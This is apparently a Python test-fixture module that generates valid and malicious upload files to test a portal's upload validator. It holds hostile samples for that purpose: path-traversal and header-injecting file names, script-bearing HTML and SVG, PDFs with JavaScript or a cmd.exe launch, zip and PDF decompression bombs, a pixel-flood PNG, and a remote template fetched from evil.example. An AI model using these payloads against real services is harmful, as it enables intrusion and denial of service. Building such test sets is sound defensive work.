"""Files made by code: good ones of each kind, and bad ones of every sort we could think of."""

import struct
import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

from PIL import Image

from portal.library.uploads.packages import OFFICE

XLS = "spreadsheetml.sheet.main+xml"
DOC = "wordprocessingml.document.main+xml"


def pdf(*objects: bytes, behind: bytes = b"", before: bytes = b"") -> bytes:
    """A small whole PDF with these objects beside the ones that it needs."""
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    body += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + b"\n".join(objects)
    return (
        before + body + b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + behind
    )


def packed(inner: bytes) -> bytes:
    """An object stream, as newer PDF files pack their objects."""
    content = zlib.compress(inner)
    head = b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n" % len(content)
    return head + b"stream\n" + content + b"\nendstream\nendobj"


def package(parts: Mapping[str, bytes], *, stored: frozenset[str] = frozenset(), remark: bytes = b"") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in parts.items():
            opened.writestr(
                zipfile.ZipInfo(name), content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            )
        opened.comment = remark
    return out.getvalue()


def types(main: str) -> bytes:
    return f'<Types><Override PartName="/x" ContentType="{OFFICE}.{main}"/></Types>'.encode()


def docx(more: Mapping[str, bytes] | None = None, *, main: str = DOC) -> bytes:
    return package({"[Content_Types].xml": types(main), "word/document.xml": b"<w:document/>", **(more or {})})


def xlsx(more: Mapping[str, bytes] | None = None) -> bytes:
    return package({"[Content_Types].xml": types(XLS), "xl/workbook.xml": b"<workbook/>", **(more or {})})


def odt(kind: bytes = b"application/vnd.oasis.opendocument.text", more: Mapping[str, bytes] | None = None) -> bytes:
    parts = {"mimetype": kind, "content.xml": b"<office:document-content/>", **(more or {})}
    return package(parts, stored=frozenset({"mimetype"}))


def picture(kind: str, size: tuple[int, int] = (12, 8), **given: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, (20, 90, 140)).save(out, format=kind, **given)
    return out.getvalue()


def with_a_place(kind: str) -> bytes:
    """A picture whose EXIF tells where it was taken, and that lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Kanariecamera"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(kind, exif=exif)


def flood() -> bytes:
    """A PNG of a few bytes that says it is 60,000 by 60,000."""
    chunk = lambda name, data: struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))  # noqa: E731
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def lying(content: bytes) -> bytes:
    """The same package, whose directory and heads say that each part is 10 bytes large."""
    out = bytearray(content)
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = out.find(mark)
        while start >= 0:
            out[start + place : start + place + 4] = struct.pack("<I", 10)
            start = out.find(mark, start + 4)
    return bytes(out)


def encrypted(content: bytes) -> bytes:
    """The same package, with the mark of a password on each part."""
    out = bytearray(content)
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = out.find(mark)
        while start >= 0:
            out[start + place] |= 1
            start = out.find(mark, start + 4)
    return bytes(out)


DOC_PARTS = {"[Content_Types].xml": types(DOC), "word/document.xml": b""}
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
BOMB = b"\0" * (30 * 1024 * 1024)
RELS = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'

GOOD: dict[str, tuple[str, bytes]] = {
    "a PDF": ("Protocol v1.2 (definitief).pdf", pdf()),
    "a PDF with packed objects": ("protocol.pdf", pdf(packed(b"1 0 << /Type /Page >>"))),
    "a PDF that was changed once": ("protocol.pdf", pdf() + b"\nstartxref\n9\n%%EOF"),
    "a Word document": ("Formulier.DOCX", docx()),
    "a spreadsheet": ("lijst.xlsx", xlsx()),
    "an OpenDocument text": ("brief.odt", odt()),
    "a PNG": ("flyer.png", picture("PNG")),
    "a JPG": ("flyer.jpg", picture("JPEG")),
    "a JPEG": ("flyer.jpeg", picture("JPEG")),
}

BAD: dict[str, tuple[str, bytes]] = {
    # Names
    "no extension": ("protocol", pdf()),
    "a name of an extension alone": (".pdf", pdf()),
    "no name": ("", pdf()),
    "an endless name": ("a" * 250 + ".pdf", pdf()),
    "a path": ("../../etc/protocol.pdf", pdf()),
    "a path of Windows": ("..\\..\\protocol.pdf", pdf()),
    "a stream of Windows": ("protocol.pdf:x.pdf", pdf()),
    "a null byte": ("protocol.php\x00.pdf", pdf()),
    "a line end": ("protocol\r\nX-Evil: 1.pdf", pdf()),
    "a name that is turned round": ("protocol\u202efdp.exe.pdf", pdf()),
    "two extensions, the last one good": ("protocol.exe.pdf", pdf()),
    "two extensions, the last one bad": ("protocol.pdf.exe", pdf()),
    "two good extensions": ("protocol.docx.pdf", pdf()),
    "a page between": ("protocol.html.png", picture("PNG")),
    "an extension with a space": ("protocol.pdf ", pdf()),
    # Kinds that we do not take
    "an SVG": ("flyer.svg", SVG),
    "a page": ("flyer.html", HTML),
    "a document with macros": ("formulier.docm", docx()),
    "an old Word document": ("formulier.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
    "a plain package": ("stukken.zip", package({"a.txt": b"a"})),
    # Content that is not what the name says
    "nothing": ("leeg.pdf", b""),
    "too much": ("groot.pdf", pdf(b"%" + b"x" * (11 * 1024 * 1024))),
    "a page as PDF": ("protocol.pdf", HTML),
    "an SVG as PNG": ("flyer.png", SVG),
    "a PNG as JPG": ("flyer.jpg", picture("PNG")),
    "a JPG as PNG": ("flyer.png", picture("JPEG")),
    "a GIF as PNG": ("flyer.png", picture("GIF")),
    "a program as PDF": ("protocol.pdf", b"MZ\x90\x00" + b"\0" * 400),
    "a spreadsheet as Word": ("formulier.docx", xlsx()),
    "a Word document as spreadsheet": ("lijst.xlsx", docx()),
    "a plain package as Word": ("formulier.docx", package({"a.txt": b"a"})),
    "a PDF as Word": ("formulier.docx", pdf()),
    "an OpenDocument sheet as text": ("brief.odt", odt(b"application/vnd.oasis.opendocument.spreadsheet")),
    # PDF
    "half a PDF": ("protocol.pdf", pdf()[:60]),
    "a PDF with a page before it": ("protocol.pdf", pdf(before=HTML)),
    "a PDF with a page behind it": ("protocol.pdf", pdf(behind=HTML)),
    "a PDF with a page inside": ("protocol.pdf", pdf(b"% <ScRiPt>alert(1)</script>")),
    "a PDF with a package behind it": ("protocol.pdf", pdf(behind=package({"a.txt": b"a"}))),
    "a PDF with a script": ("protocol.pdf", pdf(b"3 0 obj << /S /JavaScript /JS (app.alert) >> endobj")),
    "a PDF with a script by another spelling": ("protocol.pdf", pdf(b"3 0 obj << /S /J#61vaScript >> endobj")),
    "a PDF with a packed script": ("protocol.pdf", pdf(packed(b"3 0 << /S /JavaScript >>"))),
    "a PDF that starts a program": ("protocol.pdf", pdf(b"3 0 obj << /S /Launch /F (cmd.exe) >> endobj")),
    "a PDF with a file in it": ("protocol.pdf", pdf(b"3 0 obj << /EmbeddedFile 4 0 R >> endobj")),
    "a PDF with a password": ("protocol.pdf", pdf(b"trailer << /Encrypt 5 0 R >>")),
    "a PDF bomb": ("protocol.pdf", pdf(packed(BOMB + b"\0" * 1024 * 1024))),
    # Packages
    "a bomb called Word": ("formulier.docx", docx({"word/media/x.xml": BOMB})),
    "a bomb that lies about its size": ("formulier.docx", lying(docx({"word/media/x.xml": BOMB}))),
    "a package of very many parts": ("formulier.docx", docx({f"word/{number}.xml": b"" for number in range(2_100)})),
    "half a package": ("formulier.docx", docx()[:-30]),
    "a package with something behind it": ("formulier.docx", docx() + HTML),
    "a package with something before it": ("formulier.docx", HTML + docx()),
    "a package with a remark": ("formulier.docx", package(DOC_PARTS, remark=HTML)),
    "a package with a path": ("formulier.docx", docx({"../../evil.xml": b"x"})),
    "a package with a path from the root": ("formulier.docx", docx({"/etc/evil.xml": b"x"})),
    "a package with a password": ("formulier.docx", encrypted(docx())),
    "a Word document with a macro": ("formulier.docx", docx({"word/vbaProject.bin": b"x"})),
    "a Word document that says it has macros": ("formulier.docx", docx(main="macroEnabled." + DOC)),
    "a Word document with a file in it": ("formulier.docx", docx({"word/embeddings/oleObject1.bin": b"x"})),
    "a Word document that fetches its template": ("formulier.docx", docx({"word/_rels/settings.xml.rels": RELS})),
    "a spreadsheet with an entity": ("lijst.xlsx", xlsx({"xl/sharedStrings.xml": b'<!DOCTYPE x [<!ENTITY a "a">]>'})),
    "an OpenDocument text with a macro": ("brief.odt", odt(more={"Basic/Standard/Module1.xml": b"x"})),
    # Pictures
    "a flood of pixels": ("flyer.png", flood()),
    "half a PNG": ("flyer.png", picture("PNG")[:40]),
    "a PNG with a page behind it": ("flyer.png", picture("PNG") + HTML),
    "a JPG with a package behind it": ("flyer.jpg", picture("JPEG") + package({"a.txt": b"a"})),
    "a damaged PNG": ("flyer.png", picture("PNG").replace(b"IDAT", b"IDAX")),
    "the head of a JPG alone": ("flyer.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 60 + b"\xff\xd9"),
}  # fmt: skip
